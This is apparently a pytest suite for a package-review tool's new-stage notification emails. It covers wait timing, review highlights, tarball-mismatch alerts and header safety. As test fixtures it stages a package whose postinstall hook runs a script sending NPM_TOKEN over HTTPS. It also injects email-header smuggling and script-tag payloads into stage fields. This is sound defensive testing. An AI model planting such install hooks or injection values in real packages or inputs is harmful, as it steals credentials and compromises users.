"""The new-stage email: it waits for the tarball verdict and the analysis (a bounded time),
and says what a reviewer needs: package, version, tag, who staged it, the verdict, the changed
files, install scripts and new dependencies, and a link straight to the stage."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.conf import LazySettings
from django.core.mail import EmailMessage

from reviews.inspect.manifest_diff import diff_manifests
from reviews.mirror import sync
from reviews.models import NotificationEvent, StagedVersion, Tarball
from reviews.notify import dispatch as notifications
from reviews.review import analysis as review_analysis
from tests.decide.conftest import Registry
from tests.notify.conftest import BASE_URL, html_of, run_outbox
from tests.personas import World, make_stage
from tests.support import packages

pytestmark = pytest.mark.django_db

Integrity = StagedVersion.Integrity
WAIT = 300


@pytest.fixture
def waiting(settings: LazySettings) -> None:
    settings.GREENROOM_NOTIFY_ANALYSIS_WAIT = WAIT


def seen(name: str = "@acme/ui", version: str = "3.0.0") -> tuple[StagedVersion, NotificationEvent]:
    stage = make_stage(name, version)
    StagedVersion.objects.filter(pk=stage.pk).update(actor="ci-bot", actor_type="automation")
    stage.refresh_from_db()
    notifications.stage_seen(stage)
    return stage, NotificationEvent.objects.get(stage=stage)


def to(messages: list[EmailMessage], address: str) -> EmailMessage:
    return next(m for m in messages if m.to == [address])


def analysed(stage: StagedVersion) -> None:
    """A finished analysis of the stage, as reviews.review.analysis stores it."""
    analysis_module = review_analysis
    from reviews.models import Analysis, StageBaseline

    tarball = Tarball.objects.create(
        sha256="a" * 64, sha1="b" * 40, integrity="sha512-x", size=10, storage_name="t"
    )
    StagedVersion.objects.filter(pk=stage.pk).update(tarball=tarball, integrity=Integrity.VERIFIED)
    manifest = diff_manifests(
        {"name": stage.package_name, "version": "2.0.0", "dependencies": {"a": "^1.0.0"}},
        {
            "name": stage.package_name,
            "version": stage.version,
            "scripts": {"postinstall": "node collect.js", "test": "jest"},
            "dependencies": {"a": "^1.0.0", "left-pad": "^1.3.0"},
        },
    )
    analysis = Analysis.objects.create(
        staged=tarball,
        status=Analysis.Status.DONE,
        files_added=2,
        files_modified=5,
        files_unchanged=40,
        manifest=analysis_module.manifest_data(manifest, first_release=False),
    )
    StageBaseline.objects.create(
        stage=stage, staged_tarball=tarball, version="2.0.0", analysis=analysis
    )
    stage.refresh_from_db()


def test_the_email_waits_for_the_tarball_verdict_then_goes_without_it(
    people: World, waiting: None
) -> None:
    stage, event = seen()

    assert run_outbox(now=event.created_at + timedelta(seconds=WAIT - 1)) == []
    sent = run_outbox(now=event.created_at + timedelta(seconds=WAIT + 1))

    assert len(sent) == 3
    assert "Tarball:   Not checked yet" in sent[0].body
    stage.refresh_from_db()
    assert stage.integrity == Integrity.PENDING


def test_with_its_analysis_done_the_email_goes_at_once_with_the_highlights(
    people: World, waiting: None
) -> None:
    stage, _ = seen()
    analysed(stage)

    sent = run_outbox()

    message = to(sent, "viewer@example.test")
    assert message.subject == "[Greenroom] New stage: @acme/ui@3.0.0 (latest)"
    assert "@acme/ui@3.0.0 was staged by ci-bot (automation) and waits for a review." in (
        message.body
    )
    assert f"Review it: {BASE_URL}/stages/{stage.stage_id}/" in message.body
    assert "Files:     2 added, 5 modified" in message.body
    assert (
        "Install scripts (they run on every install):\n  - postinstall added: node collect.js"
    ) in message.body
    assert "New dependencies:\n  - left-pad ^1.3.0 (dependencies)" in message.body
    assert "Tarball:   Verified" in message.body
    html = html_of(message)
    assert f'<a href="{BASE_URL}/stages/{stage.stage_id}/"' in html
    assert "<code>postinstall added: node collect.js</code>" in html
    assert "2 added, 5 modified" in html


def test_a_verified_tarball_without_its_analysis_waits_then_says_so(
    people: World, waiting: None
) -> None:
    stage, event = seen()
    StagedVersion.objects.filter(pk=stage.pk).update(integrity=Integrity.VERIFIED)

    assert run_outbox(now=event.created_at + timedelta(seconds=10)) == []
    sent = run_outbox(now=event.created_at + timedelta(seconds=WAIT + 1))

    assert "the file analysis was not ready yet; the review page has it." in sent[0].body


def test_an_analysis_that_crashes_is_waited_for_no_longer_than_the_bound(
    people: World, waiting: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    analysis_module = review_analysis
    stage, event = seen()
    StagedVersion.objects.filter(pk=stage.pk).update(integrity=Integrity.VERIFIED)

    def broken(stage: StagedVersion) -> None:
        raise RuntimeError("the analysis tables are not there")

    monkeypatch.setattr(analysis_module, "current_baseline", broken)

    assert run_outbox(now=event.created_at + timedelta(seconds=10)) == []
    assert len(run_outbox(now=event.created_at + timedelta(seconds=WAIT + 1))) == 3


def test_a_mismatched_tarball_is_announced_at_once_and_loudly(people: World, waiting: None) -> None:
    stage, _ = seen()
    StagedVersion.objects.filter(pk=stage.pk).update(
        integrity=Integrity.MISMATCH, integrity_reason="the tarball's SHA-1 is not the stage's"
    )

    sent = run_outbox()

    message = to(sent, "approver@example.test")
    assert message.subject == "[Greenroom] New stage: @acme/ui@3.0.0 (latest) - TARBALL MISMATCH"
    assert "the tarball does not match its stage: the tarball's SHA-1 is not the stage's" in (
        message.body
    )
    assert "does not match its stage" in html_of(message)


def test_hostile_stage_fields_cannot_break_the_headers_or_the_html(people: World) -> None:
    stage, _ = seen()
    StagedVersion.objects.filter(pk=stage.pk).update(
        tag="next\r\nBcc: everyone@example.test\u202e", actor="<script>alert(1)</script>"
    )

    message = to(run_outbox(), "viewer@example.test")

    assert message.subject == (
        "[Greenroom] New stage: @acme/ui@3.0.0 (next Bcc: everyone@example.test)"
    )
    assert message.bcc == []
    assert "<script>" not in html_of(message)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html_of(message)


def test_the_message_carries_list_unsubscribe_and_a_stable_message_id(people: World) -> None:
    seen()

    message = to(run_outbox(), "viewer@example.test")

    unsubscribe = message.extra_headers["List-Unsubscribe"]
    assert unsubscribe.startswith(f"<{BASE_URL}/notifications/unsubscribe/")
    assert message.extra_headers["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    assert message.extra_headers["Auto-Submitted"] == "auto-generated"
    key = f"stage.new:{message_stage_pk()}:user:{people.viewer.pk}"
    assert message.extra_headers["Message-ID"] == notifications.message_id(key)
    assert message.extra_headers["Message-ID"].endswith("@greenroom.example.test>")
    assert f"Stop these emails: {unsubscribe[1:-1]}" in message.body


def message_stage_pk() -> int:
    stage_id = NotificationEvent.objects.get().stage_id
    assert stage_id is not None
    return stage_id


def test_end_to_end_the_email_carries_what_the_real_analysis_found(
    people: World, registry: Registry, waiting: None
) -> None:
    analysis_module = review_analysis
    StagedVersion.objects.all().delete()  # the world's stages: unknown to this registry
    name = "@acme/widget"
    old: dict[str, bytes | str] = {"index.js": "module.exports = 1;\n", "README.md": "# widget\n"}
    packages.publish(
        registry.url, registry.ci_token, name, "1.0.0", packages.build_tarball(name, "1.0.0", old)
    )
    new: dict[str, bytes | str] = {
        "index.js": "module.exports = 2;\n",
        "README.md": "# widget\n",
        "collect.js": "require('https').get(process.env.NPM_TOKEN);\n",
    }
    manifest = {
        "scripts": {"postinstall": "node collect.js"},
        "dependencies": {"left-pad": "1.3.0"},
    }
    packages.stage(
        registry.url,
        registry.ci_token,
        name,
        "1.1.0",
        packages.build_tarball(name, "1.1.0", new, manifest),
        manifest=manifest,
    )

    summary = sync.sync_stages()
    stage = StagedVersion.objects.get(package_name=name)
    assert sync.download_stage(stage.pk) == Integrity.VERIFIED
    assert run_outbox() == []  # verified, not analysed yet: the email waits
    analysis_module.analyse_stage(stage.pk)
    sent = run_outbox()

    assert summary.new == 1
    message = to(sent, "viewer@example.test")
    assert "Files:     1 added, 2 modified" in message.body
    assert "  - postinstall added: node collect.js" in message.body
    assert "  - left-pad 1.3.0 (dependencies)" in message.body
